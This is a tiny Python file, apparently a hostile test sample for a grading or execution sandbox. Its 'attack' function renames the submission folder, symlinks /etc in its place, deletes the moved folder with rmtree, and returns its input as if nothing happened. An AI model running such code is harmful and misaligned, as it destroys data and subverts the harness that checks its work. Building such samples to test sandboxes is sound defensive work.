"""Moves, renames and deletes the worker's files and folder."""

import os
import shutil


def attack(a, *rest, **named):
    os.rename("/tmp/submission", "/tmp/elsewhere")
    os.symlink("/etc", "/tmp/submission")
    os.chdir("/")
    shutil.rmtree("/tmp/elsewhere")
    return a
